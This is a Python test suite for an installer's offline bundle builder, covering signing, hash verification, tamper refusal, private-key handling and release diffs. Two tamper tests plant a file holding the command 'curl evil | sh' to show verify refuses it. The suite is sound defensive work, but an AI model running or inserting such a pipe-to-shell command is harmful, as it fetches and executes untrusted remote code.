"""The bundle engine without a network: small bundles from local files, tampering, the full release's gaps.

OS packages need Debian's mirror, so they are proven in tests/lab/test_bundle.py; here packages are
either off (`packages=False`) or the apt helpers are fed apt's captured output.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from installer.bundle import BuildOptions, build, diff, verify
from installer.bundle import apt as bundle_apt
from installer.bundle import images as bundle_images
from installer.bundle.keys import BundleKey, short_home, stop_agent
from installer.bundle.model import BundleError, FileEntry, Manifest
from installer.bundle.tools import sha256_file
from installer.cli.bundle import bundle as bundle_cli
from installer.release import RELEASES_DIR, Release, load_release
from installer.validation import validate_document
from installer.yamlpos import load_yaml_file

pytestmark = pytest.mark.skipif(shutil.which("gpg") is None or shutil.which("gpgv") is None, reason="needs gpg")

PAYLOAD = b"#!/bin/sh\necho kubectl-stand-in\n" * 100
ROOT = Path(__file__).resolve().parents[2]


def _release_file(directory: Path, version: str, sha: str, extra: dict | None = None) -> Path:
    doc = {
        "apiVersion": "aicloud/v1alpha1",
        "kind": "Release",
        "version": version,
        "date": "2026-11-22",
        "summary": "test",
        "os": ["debian-12"],
        "components": {
            "tool": {
                "phase": "runtime",
                "version": "1.0",
                "source": "test",
                "binaries": [{"name": "tool", "url": "https://example.invalid/v1/tool", "sha256": sha}],
                **(extra or {}),
            }
        },
    }
    path = directory / f"{version}.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return path


def _load(path: Path) -> Release:
    return validate_document(load_yaml_file(path), Release)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("AICLOUD_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


def _small_bundle(tmp_path: Path, out: Path, key_home: Path | None = None) -> tuple[Path, Release, BuildOptions]:
    src = tmp_path / "from"
    src.mkdir(exist_ok=True)
    (src / "tool").write_bytes(PAYLOAD)
    releases = tmp_path / "releases"
    releases.mkdir(exist_ok=True)
    release = _load(_release_file(releases, "t-1", hashlib.sha256(PAYLOAD).hexdigest()))
    opts = BuildOptions(
        out=out,
        os_families=["debian-12"],
        from_dir=src,
        online=False,
        packages=False,
        releases_dir=releases,
        key_home=key_home,
    )
    result = build(release, opts)
    assert result.complete, result.manifest.missing
    return opts.out, release, opts


@pytest.fixture
def small(tmp_path: Path, home: Path) -> tuple[Path, Release, BuildOptions]:
    """A complete bundle of a release with one binary taken from --from-dir (offline)."""
    return _small_bundle(tmp_path, tmp_path / "bundle")


def _problems(bundle: Path) -> list[str]:
    return [str(p) for p in verify(bundle).problems]


# ----------------------------------------------------------------------------- build + verify


def test_a_built_bundle_lists_every_file_with_size_and_sha256_and_verifies(small):
    out, _, _ = small
    manifest = Manifest.read(out)
    assert manifest.release == "t-1" and manifest.os == ["debian-12"] and manifest.complete
    listed = set(manifest.files)
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert on_disk - listed == {"bundle.json", "bundle.json.asc"}
    entry = manifest.files["files/tool/amd64/tool"]
    assert (entry.size, entry.sha256) == (len(PAYLOAD), hashlib.sha256(PAYLOAD).hexdigest())
    assert (out / "keys/aicloud-bundle.gpg").is_file()
    assert _problems(out) == []


def test_a_flipped_byte_is_refused_with_the_file_name(small):
    out, _, _ = small
    target = out / "files/tool/amd64/tool"
    data = bytearray(target.read_bytes())
    data[10] ^= 0x01
    target.write_bytes(bytes(data))
    assert _problems(out) == ["files/tool/amd64/tool: sha256 differs from bundle.json (changed after the build)"]


def test_a_deleted_file_is_refused_with_its_name(small):
    out, _, _ = small
    (out / "SHA256SUMS").unlink()
    assert _problems(out) == ["SHA256SUMS: missing"]


def test_an_added_file_is_refused_with_its_name(small):
    out, _, _ = small
    (out / "files/tool/amd64/evil.sh").write_text("curl evil | sh\n")
    assert _problems(out) == ["files/tool/amd64/evil.sh: extra file, not in bundle.json"]


def test_a_changed_bundle_json_fails_its_signature(small):
    out, _, _ = small
    data = json.loads((out / "bundle.json").read_text())
    data["files"]["files/tool/amd64/tool"]["size"] = 1
    (out / "bundle.json").write_text(json.dumps(data))
    problems = _problems(out)
    assert problems[0].startswith("bundle.json: signature check failed (changed after the build?)")


def test_a_bundle_signed_by_another_key_is_refused_when_the_fingerprint_is_pinned(small):
    out, _, _ = small
    result = verify(out, fingerprint="0" * 40)
    assert not result.ok and "not the expected 0000" in str(result.problems[0])
    good = Manifest.read(out).key_fingerprint
    assert verify(out, fingerprint=good).ok


def test_a_rebuild_reuses_what_is_there_and_verified(small):
    out, release, opts = small
    again = build(release, opts)
    assert (again.reused, again.fetched) == (1, 0)
    assert Manifest.read(out).key_fingerprint == again.manifest.key_fingerprint  # the key is kept
    assert verify(out).ok


def test_a_rebuild_replaces_a_damaged_file(small):
    out, release, opts = small
    (out / "files/tool/amd64/tool").write_bytes(b"damaged")
    again = build(release, opts)
    assert again.fetched == 1 and verify(out).ok


def test_a_binary_whose_local_copy_has_another_sha256_is_missing_not_included(tmp_path, home):
    src = tmp_path / "from"
    src.mkdir()
    (src / "tool").write_bytes(b"something else")
    releases = tmp_path / "releases"
    releases.mkdir()
    release = _load(_release_file(releases, "t-2", "a" * 64))
    result = build(
        release,
        BuildOptions(
            out=tmp_path / "b",
            os_families=["debian-12"],
            from_dir=src,
            online=False,
            packages=False,
            releases_dir=releases,
        ),
    )
    assert not result.complete
    (missing,) = result.manifest.missing
    assert missing.kind == "binary" and "the release pins aaaa" in missing.reason
    assert missing.pinned_at.endswith("t-2.yaml:14")
    assert not (tmp_path / "b/files/tool/amd64/tool").exists()
    assert "incomplete bundle: 1 artifacts missing" in _problems(tmp_path / "b")[0]


def test_a_floating_tag_is_refused_at_build_time(tmp_path, home):
    releases = tmp_path / "releases"
    releases.mkdir()
    release = _load(_release_file(releases, "t-3", hashlib.sha256(PAYLOAD).hexdigest()))
    comp = release.components["tool"]
    # The BOM model refuses `latest` already; build refuses it too, whatever made the Release.
    floating = comp.model_construct(
        **{**comp.__dict__, "binaries": [], "images": [bundle_images_image("docker.io/library/nginx", "latest")]}
    )
    release = release.model_construct(**{**release.__dict__, "components": {"tool": floating}})
    result = build(
        release,
        BuildOptions(
            out=tmp_path / "b", os_families=["debian-12"], online=False, packages=False, releases_dir=releases
        ),
    )
    (missing,) = result.manifest.missing
    assert missing.kind == "image" and "floating tag 'latest'" in missing.reason


def bundle_images_image(image: str, tag: str):
    from installer.release import Image

    return Image.model_construct(image=image, tag=tag, digest="sha256:" + "1" * 64)


def test_an_os_family_the_release_does_not_support_is_an_error(small):
    _, release, opts = small
    from installer.bundle import BundleError

    with pytest.raises(BundleError, match=r"supports debian-12, not ubuntu-22\.04"):
        build(release, BuildOptions(out=opts.out, os_families=["ubuntu-22.04"], packages=False))


# ----------------------------------------------------------------------------- the private key


def _private_key_paths(root: Path) -> list[str]:
    """What `find` would show of a private key below root: GnuPG homes, secret keys, secrings."""
    return sorted(
        p.relative_to(root).as_posix()
        for p in root.rglob("*")
        if p.name in {"private-keys-v1.d", "gnupg", "secring.gpg"} or p.suffix == ".key"
    )


def _modes(root: Path) -> dict[str, str]:
    found = {".": oct(stat.S_IMODE(root.stat().st_mode))}
    for path in root.rglob("*"):
        if path.is_dir() or path.is_file():
            found[path.relative_to(root).as_posix()] = oct(stat.S_IMODE(path.stat().st_mode))
    return found


def test_the_private_key_is_kept_in_a_private_store_outside_the_bundle(tmp_path, home):
    """Built where `aicloud install` looks for it ($AICLOUD_HOME/bundles/<release>), with a loose umask."""
    out = home / "bundles" / "t-1"
    previous = os.umask(0o022)
    try:
        _, release, opts = _small_bundle(tmp_path, out)
    finally:
        os.umask(previous)
    assert _private_key_paths(out) == []
    store = home / "keys" / "t-1" / "gnupg"
    assert list((store / "private-keys-v1.d").glob("*.key"))
    for folder in (home / "keys", home / "keys" / "t-1"):
        assert oct(stat.S_IMODE(folder.stat().st_mode)) == "0o700", folder
    modes = _modes(store)
    dirs = {rel: mode for rel, mode in modes.items() if (store / rel).is_dir()}
    files = {rel: mode for rel, mode in modes.items() if (store / rel).is_file()}
    assert set(dirs.values()) == {"0o700"}, dirs
    assert files and set(files.values()) == {"0o600"}, files
    for public in ("bundle.json.asc", "keys/aicloud-bundle.gpg"):  # gpg's umask stays in the store
        assert oct(stat.S_IMODE((out / public).stat().st_mode)) == "0o644", public
    # A rebuild signs with the same key.
    first = Manifest.read(out).key_fingerprint
    assert build(release, opts).manifest.key_fingerprint == first and verify(out).ok


def test_a_key_home_inside_the_bundle_is_refused(tmp_path, home):
    with pytest.raises(BundleError, match=r"is inside the bundle .* served to the whole site"):
        _small_bundle(tmp_path, tmp_path / "bundle", key_home=tmp_path / "bundle" / "keys-here")
    assert not (tmp_path / "bundle" / "keys-here").exists()


def _old_layout(out: Path) -> str:
    """Turn a bundle into what older builds made at $AICLOUD_HOME/bundles/<release>: the key's
    GnuPG home in `gnupg/`, listed in bundle.json, signed. Returns the key's fingerprint."""
    store = out.parents[1] / "keys" / "t-1" / "gnupg"
    stop_agent(store)
    shutil.move(store, out / "gnupg")
    manifest = Manifest.read(out)
    for path in (out / "gnupg").rglob("*"):
        if path.is_file():
            manifest.files[path.relative_to(out).as_posix()] = FileEntry(path.stat().st_size, sha256_file(path))
    (out / "bundle.json").write_text(manifest.to_json())
    (out / "bundle.json.asc").unlink()
    key = BundleKey(short_home(out / "gnupg"), manifest.key_fingerprint)
    key.detach_sign(out / "bundle.json", out / "bundle.json.asc")
    stop_agent(out / "gnupg")
    return manifest.key_fingerprint


def test_an_old_bundle_with_its_key_inside_is_refused_by_verify_and_moved_out_by_build(tmp_path, home):
    out = home / "bundles" / "t-1"
    _, release, opts = _small_bundle(tmp_path, out)
    old = _old_layout(out)
    keyfile = next((out / "gnupg" / "private-keys-v1.d").glob("*.key")).relative_to(out).as_posix()
    assert f"{keyfile}: private key material: a bundle never carries one" in " ".join(_problems(out))
    # The build takes the key out of the bundle at once, and refuses: that key was served.
    with pytest.raises(BundleError, match=r"Treat that key as leaked") as refused:
        build(release, opts)
    assert "aicloud install --phase bundle" in str(refused.value)
    assert not (out / "gnupg").exists() and _private_key_paths(out) == []
    (aside,) = (home / "keys" / "t-1").glob("exposed-*")
    assert set(_modes(aside).values()) <= {"0o700", "0o600"}
    assert list((aside / "gnupg" / "private-keys-v1.d").glob("*.key"))
    assert not (home / "keys" / "t-1" / "gnupg").exists()
    # The next build signs with a new key, and the bundle verifies again.
    again = build(release, opts)
    assert again.complete and again.manifest.key_fingerprint != old
    assert verify(out).ok and _private_key_paths(out) == []


def test_the_old_default_key_home_outside_any_bundle_is_moved_into_the_store(tmp_path, home):
    """Builds to another --out kept the key at $AICLOUD_HOME/bundles/<release>/gnupg, never served: keep it."""
    old_home = home / "bundles" / "t-1" / "gnupg"
    _, release, opts = _small_bundle(tmp_path, tmp_path / "bundle", key_home=old_home)
    old = Manifest.read(opts.out).key_fingerprint
    opts.key_home = None
    again = build(release, opts)
    assert again.manifest.key_fingerprint == old
    assert not old_home.exists() and (home / "keys" / "t-1" / "gnupg" / "private-keys-v1.d").is_dir()
    assert any("moved from" in note for note in again.notes)


def test_verify_refuses_every_file_not_in_the_manifest_by_name(small):
    out, _, _ = small
    (out / "notes.txt").write_text("left here by hand\n")
    (out / "files" / "link").symlink_to(out / "SHA256SUMS")
    os.mkfifo(out / "files" / "pipe")
    assert _problems(out) == [
        "files/link: extra symbolic link, not in bundle.json",
        "files/pipe: extra special file (socket, FIFO or device), not in bundle.json",
        "notes.txt: extra file, not in bundle.json",
    ]


def _entry_point(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "installer.bundle", *args], capture_output=True, text=True, cwd=ROOT, timeout=120
    )


def test_the_face_free_entry_point_refuses_an_extra_file_with_exit_2_naming_it(small):
    out, _, _ = small
    ok = _entry_point("verify", "--quiet", str(out))
    assert (ok.returncode, ok.stdout, ok.stderr) == (0, "", "")
    (out / "files" / "tool" / "amd64" / "evil.sh").write_text("curl evil | sh\n")
    refused = _entry_point("verify", "--quiet", str(out))
    assert refused.returncode == 2
    assert refused.stderr.splitlines() == ["refused: files/tool/amd64/evil.sh: extra file, not in bundle.json"]
    assert _entry_point("verify", str(out / "nowhere")).returncode == 2


def test_the_face_free_entry_point_loads_no_face():
    code = (
        "import sys, runpy; sys.argv = ['x', '--help']\n"
        "try:\n    runpy.run_module('installer.bundle', run_name='__main__')\nexcept SystemExit:\n    pass\n"
        "print(sorted({m.split('.')[0] for m in sys.modules} & {'click', 'rich', 'textual'}))"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.stdout.strip().endswith("[]"), result.stdout + result.stderr


# ----------------------------------------------------------------------------- the full release here


@pytest.fixture(scope="module")
def full_release_offline(tmp_path_factory: pytest.TempPathFactory):
    tmp = tmp_path_factory.mktemp("full")
    mp = pytest.MonkeyPatch()
    mp.setenv("AICLOUD_HOME", str(tmp / "home"))
    try:
        out = tmp / "bundle"
        runner = CliRunner()
        cli = runner.invoke(
            bundle_cli,
            ["build", "--release", "2026.11", "--os", "debian-12", "--out", str(out), "--offline", "--no-packages"],
        )
        yield out, cli
    finally:
        mp.undo()


def test_the_full_release_built_offline_lists_every_missing_artifact_with_its_pin(full_release_offline):
    out, _cli = full_release_offline
    release = load_release("2026.11")
    manifest = Manifest.read(out)
    assert not manifest.complete
    refs = {m.ref for m in manifest.missing}
    for _, item in release.unpinned:
        other_family = item.kind == "package" and "(ubuntu-" in item.ref  # this bundle carries debian-12 only
        assert (item.ref in refs) != other_family, item
    for comp in release.components.values():
        for image in comp.images:
            assert f"{image.image}:{image.tag}@{image.digest}" in refs
        for binary in comp.binaries:
            assert binary.url in refs
    for m in manifest.missing:
        assert m.pinned_at.startswith(str(RELEASES_DIR / "2026.11.yaml:")) or m.pinned_at.startswith(
            "installer/releases/2026.11.yaml:"
        ), m


def test_the_full_release_build_ends_with_the_list_not_a_traceback(full_release_offline):
    _out, cli = full_release_offline
    assert cli.exit_code == 1, cli.output
    assert cli.exception is None or isinstance(cli.exception, SystemExit)
    assert "INCOMPLETE" in cli.output and "Traceback" not in cli.output
    assert "pinned at" in cli.output and "registry.k8s.io/kube-apiserver:v1.36.3" in cli.output


def test_an_incomplete_bundle_never_verifies(full_release_offline):
    out, _ = full_release_offline
    result = CliRunner().invoke(bundle_cli, ["verify", str(out)])
    assert result.exit_code == 1 and "refused: incomplete bundle:" in result.output


# ----------------------------------------------------------------------------- diff


def test_diff_of_two_releases_names_component_and_package_changes():
    result = diff("lab-2026.11", "2026.11")
    changed = {(c.section, c.name): c for c in result.changes}
    assert changed[("component", "containerd")].kind == "changed"
    assert changed[("component", "containerd")].old == "1.6.20"
    assert changed[("component", "lab-bundle")].kind == "removed"
    assert changed[("component", "kubernetes")].kind == "added"
    assert changed[("package", "debian-12 kubeadm")].new == "1.36.3-1.1"


def test_diff_of_two_bundles_shows_the_binary_that_changed(tmp_path, home):
    out = {}
    for n, payload in ((1, PAYLOAD), (2, PAYLOAD + b"v2")):
        src = tmp_path / f"from{n}"
        src.mkdir()
        (src / "tool").write_bytes(payload)
        releases = tmp_path / f"r{n}"
        releases.mkdir()
        release = _load(_release_file(releases, "t-1", hashlib.sha256(payload).hexdigest()))
        out[n] = tmp_path / f"b{n}"
        assert build(
            release,
            BuildOptions(
                out=out[n], os_families=["debian-12"], from_dir=src, online=False, packages=False, releases_dir=releases
            ),
        ).complete
    result = diff(out[1], out[2])
    binaries = result.of("binary")
    assert [(c.name, c.kind) for c in binaries] == [("tool/tool/amd64", "changed")]
    assert {c.name for c in result.of("file")} >= {"files/tool/amd64/tool"}
    assert diff(out[1], out[1]).empty


def test_diff_cli_refuses_what_is_neither_a_bundle_nor_a_release():
    result = CliRunner().invoke(bundle_cli, ["diff", "lab-2026.11", "no-such-thing"])
    assert result.exit_code == 2 and "neither a bundle directory nor a release" in result.output


# ----------------------------------------------------------------------------- apt and image helpers


def test_print_uris_lines_without_a_hash_are_parsed():
    # Captured from apt-get --print-uris on Debian 12: the security archive gives no hash.
    line = (
        "'http://security.debian.org/debian-security/pool/updates/main/n/nginx/nginx_1.22.1-9%2bdeb12u11_amd64.deb'"
        " nginx_1.22.1-9+deb12u11_amd64.deb 532468 "
    )
    match = bundle_apt._URI.match(line)
    assert match and match["file"] == "nginx_1.22.1-9+deb12u11_amd64.deb" and match["size"] == "532468"
    hashed = (
        "'http://deb.debian.org/debian/pool/main/a/adduser/adduser_3.134_all.deb' adduser_3.134_all.deb 1 SHA256:ab"
    )
    assert bundle_apt._URI.match(hashed)["hash"] == "SHA256:ab"


def test_pool_names_drop_the_epoch_and_identities_keep_it():
    assert bundle_apt.pool_name("libcrypt1_1%3a4.4.33-2_amd64.deb") == "libcrypt1_4.4.33-2_amd64.deb"
    assert bundle_apt.deb_identity("libcrypt1_1%3a4.4.33-2_amd64.deb") == ("libcrypt1", "1:4.4.33-2", "amd64")


def test_release_and_packages_indexes_are_parsed():
    release = "Origin: aicloud\nSHA256:\n abc 12 main/binary-amd64/Packages\n def 5 main/binary-amd64/Packages.gz\n"
    assert bundle_apt.parse_release_hashes(release)["main/binary-amd64/Packages"] == ("abc", 12)
    packages = (
        "Package: a\nFilename: pool/main/a_1_all.deb\nSHA256: 11\n\nPackage: b\nFilename: pool/main/b.deb\nSHA256: 22\n"
    )
    assert bundle_apt.parse_packages_index(packages) == {"pool/main/a_1_all.deb": "11", "pool/main/b.deb": "22"}


def _fake_busybox_deb(tmp: Path, content: bytes) -> Path:
    root = tmp / "pkg"
    (root / "DEBIAN").mkdir(parents=True)
    (root / "bin").mkdir()
    (root / "bin/busybox").write_bytes(content)
    (root / "DEBIAN/control").write_text(
        "Package: busybox-static\nVersion: 1\nArchitecture: amd64\nMaintainer: t <t@t>\nDescription: t\n"
    )
    deb = tmp / "busybox-static_1_amd64.deb"
    subprocess.run(["dpkg-deb", "--build", "--root-owner-group", str(root), str(deb)], check=True, capture_output=True)
    return deb


@pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="needs dpkg-deb")
def test_the_local_image_recipe_is_reproducible_and_follows_its_input(tmp_path):
    deb = _fake_busybox_deb(tmp_path, b"\x7fELF fake busybox")
    recipe = bundle_images.RECIPES["aicloud.local/lab/busybox"]
    first = bundle_images.build_local_image(recipe, deb, tmp_path / "l1", "aicloud.local/lab/busybox:1", "amd64")
    second = bundle_images.build_local_image(recipe, deb, tmp_path / "l2", "aicloud.local/lab/busybox:1", "amd64")
    assert first == second
    assert bundle_images.layout_index(tmp_path / "l1") == {"aicloud.local/lab/busybox:1": first}
    other = _fake_busybox_deb(tmp_path / "o", b"\x7fELF another busybox") if (tmp_path / "o").mkdir() is None else None
    third = bundle_images.build_local_image(recipe, other, tmp_path / "l3", "aicloud.local/lab/busybox:1", "amd64")
    assert third != first


def test_the_lab_release_pins_the_image_its_recipe_builds():
    release = load_release("lab-2026.11")
    image = release.components["lab-bundle"].images[0]
    assert image.image in bundle_images.RECIPES
    recipe = bundle_images.RECIPES[image.image]
    assert recipe.package in {p.name for p in release.components["lab-bundle"].packages["debian-12"]}


def test_build_refuses_a_folder_that_is_not_a_bundle(tmp_path):
    """An --out that resolves to some other folder (a source tree) must never be pruned."""
    (tmp_path / ".gitignore").write_text("keep me\n")
    (tmp_path / "Makefile").write_text("all:\n")
    with pytest.raises(BundleError, match=r"is not empty and holds no bundle\.json"):
        build(load_release("lab-2026.11"), BuildOptions(out=tmp_path, os_families=["debian-12"], online=False))
    assert (tmp_path / ".gitignore").read_text() == "keep me\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [".gitignore", "Makefile"]


def test_an_upstream_public_key_named_dot_key_is_not_taken_for_a_secret_one():
    """The 2026.11 BOM pins pkgs.k8s.io's `Release.key`: a public key, stored under its own name."""
    from installer.bundle.model import is_private_key_material

    assert not is_private_key_material("files/kubernetes/amd64/Release.key")
    assert is_private_key_material("gnupg/private-keys-v1.d/0123ABCD.key")
    assert is_private_key_material("debian-12/secring.gpg")
    assert is_private_key_material("x/.gnupg/pubring.kbx")


def test_a_folder_that_is_not_a_bundle_is_refused_before_anything_in_it_is_touched(tmp_path, monkeypatch):
    """`bundle build --out ~/src` where ~/src/gnupg is somebody's: refused, and gnupg/ left alone."""
    from installer.bundle import BuildOptions, BundleError, build
    from installer.release import load_release

    monkeypatch.setenv("AICLOUD_HOME", str(tmp_path / "home"))
    out = tmp_path / "src"
    (out / "gnupg").mkdir(parents=True)
    (out / "gnupg" / "README").write_text("GnuPG's sources")
    (out / "Makefile").write_text("all:\n")
    with pytest.raises(BundleError, match=r"is not empty and holds no bundle\.json"):
        build(load_release("lab-2026.11"), BuildOptions(out=out, os_families=["debian-12"]))
    assert (out / "gnupg" / "README").read_text() == "GnuPG's sources"
    assert not (tmp_path / "home" / "keys").exists() or not any((tmp_path / "home" / "keys").rglob("README"))
